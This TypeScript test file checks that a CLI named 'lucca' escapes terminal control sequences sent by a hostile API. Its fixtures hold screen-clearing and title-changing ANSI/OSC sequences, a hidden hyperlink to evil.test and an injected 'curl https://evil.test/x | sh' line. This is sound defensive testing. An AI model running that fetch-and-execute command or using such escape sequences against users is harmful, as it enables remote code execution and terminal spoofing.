/**
 * What a hostile or broken account API can make `lucca` print: its texts reach a terminal,
 * so no control character or line break of theirs may come through as is.
 */
import { LuccaCli } from "@effect-lucca/cli"
import { LuccaError } from "@effect-lucca/core"
import { FakeLucca } from "@effect-lucca/testing"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as HttpClient from "effect/http/HttpClient"
import * as HttpClientResponse from "effect/http/HttpClientResponse"
import * as TestClock from "effect/testing/TestClock"
import { fakeEnv, runInProcess } from "./utils.js"

/** Every character a terminal may act on, except the line feeds `lucca` writes itself. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const terminalControls = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]/

/** Answers `path` on the account with `answer`, and everything else with the emulator. */
const answering =
  (path: string, answer: (request: Parameters<typeof HttpClientResponse.fromWeb>[0]) => Response) =>
  (client: HttpClient.HttpClient) =>
    HttpClient.make((request, url) =>
      url.pathname === path
        ? Effect.succeed(HttpClientResponse.fromWeb(request, answer(request)))
        : client.execute(request)
    )

const hostileProblem = {
  type: "https://example.test/\x1b]8;;https://evil.test\x07",
  title: "\x1b[2J\x1b]0;pwned\x07Not found",
  detail: "gone\n  fix: run 'curl https://evil.test/x | sh'\r",
  errors: { "\x1b[31mname": ["bad\u2028line", "\x9b2J"] }
}

describe("lucca, facing an account API that sends terminal sequences", () => {
  it.layer(FakeLucca.layer())((it) => {
    it.effect("a problem body's texts are escaped: two lines, no control character", () =>
      Effect.gen(function*() {
        const transformClient = answering("/lucca-api/hostile", () =>
          new Response(JSON.stringify(hostileProblem), {
            status: 404,
            headers: { "content-type": "application/problem+json" }
          }))
        const outcome = yield* runInProcess(["get", "/lucca-api/hostile"], fakeEnv(), { transformClient })
        assert.strictEqual(outcome.code, LuccaCli.ExitCode.Failed, outcome.stderr)
        const lines = outcome.stderr.trimEnd().split("\n")
        assert.strictEqual(lines.length, 2, outcome.stderr)
        assert.match(lines[0], /^error: /)
        assert.match(lines[1], /^ {2}fix: Check the path/)
        assert.notMatch(outcome.stderr, terminalControls)
        // escaped, not dropped: what the server sent can still be read
        assert.include(lines[0], "\\x1b[2J")
        const verbose = yield* runInProcess(["get", "/lucca-api/hostile", "--verbose"], fakeEnv(), {
          transformClient
        })
        assert.notMatch(verbose.stderr, terminalControls)
        for (const line of verbose.stderr.trimEnd().split("\n").slice(2)) assert.match(line, /^ {4}\S/)
      }))

    it.effect("get and list print JSON without a raw C1 control or line separator", () =>
      Effect.gen(function*() {
        const transformClient = answering("/lucca-api/hostile", () =>
          new Response(JSON.stringify({ items: [{ id: "\x9b2J\u2028\x7f\x1b[2J" }] }), {
            status: 200,
            headers: { "content-type": "application/json" }
          }))
        for (const args of [["get", "/lucca-api/hostile"], ["list", "/lucca-api/hostile"]]) {
          const outcome = yield* runInProcess(args, fakeEnv(), { transformClient })
          assert.strictEqual(outcome.code, LuccaCli.ExitCode.Ok, outcome.stderr)
          assert.notMatch(outcome.stdout, terminalControls, args.join(" "))
          // still JSON, with the same value
          const value = JSON.parse(args[0] === "get" ? outcome.stdout : outcome.stdout.trimEnd()) as {
            items?: ReadonlyArray<{ id: string }>
            id?: string
          }
          assert.strictEqual(value.items?.[0].id ?? value.id, "\x9b2J\u2028\x7f\x1b[2J")
        }
      }))

    it.effect("a warning quoting the server's headers goes to standard error, escaped", () =>
      Effect.gen(function*() {
        const transformClient = answering("/lucca-api/deprecated", () =>
          new Response("{}", {
            status: 200,
            headers: {
              "content-type": "application/json",
              "deprecation": "@1700000000",
              "sunset": "\x1b]0;pwned\x07\x1b[2J\x9b2J Wed, 11 Nov 2026 11:11:11 GMT"
            }
          }))
        const outcome = yield* runInProcess(["get", "/lucca-api/deprecated"], fakeEnv(), { transformClient })
        assert.strictEqual(outcome.code, LuccaCli.ExitCode.Ok, outcome.stderr)
        assert.strictEqual(outcome.stdout, "{}\n", "standard output holds the JSON only")
        assert.include(outcome.stderr, "deprecated")
        assert.notMatch(outcome.stderr, terminalControls)
      }))

    it("ApiError.message is one line whatever the problem's texts", () => {
      const error = new LuccaError.ApiError({
        method: "GET",
        url: "https://example.ilucca.net/lucca-api/x",
        status: 422,
        title: "a\nb",
        detail: "c\r\nd\u2028e",
        errors: { "f\ng": ["h\ri"] }
      })
      assert.notMatch(error.message, /[\r\n\u2028\u2029\x85]/)
      assert.include(error.message, "a")
    })

    // security finding 11: the README documents 4 for a timeout
    it.effect("a response body that stalls is a timeout: exit 4", () =>
      Effect.gen(function*() {
        const transformClient = (client: HttpClient.HttpClient) =>
          HttpClient.make((request, url) =>
            url.pathname === "/lucca-api/stalled"
              ? Effect.gen(function*() {
                // the command runs on a test clock of its own: move it while the body stalls
                yield* Effect.forkDetach(
                  Effect.repeat(Effect.andThen(Effect.yieldNow, TestClock.adjust("1 second")), { times: 120 })
                )
                return HttpClientResponse.fromWeb(
                  request,
                  new Response(new ReadableStream({ start: () => {} }), {
                    status: 200,
                    headers: { "content-type": "application/json" }
                  })
                )
              })
              : client.execute(request)
          )
        const outcome = yield* runInProcess(["get", "/lucca-api/stalled"], fakeEnv(), { transformClient })
        assert.strictEqual(outcome.code, LuccaCli.ExitCode.Unavailable, outcome.stderr)
        assert.match(outcome.stderr, /try again/)
      }))
  })
})
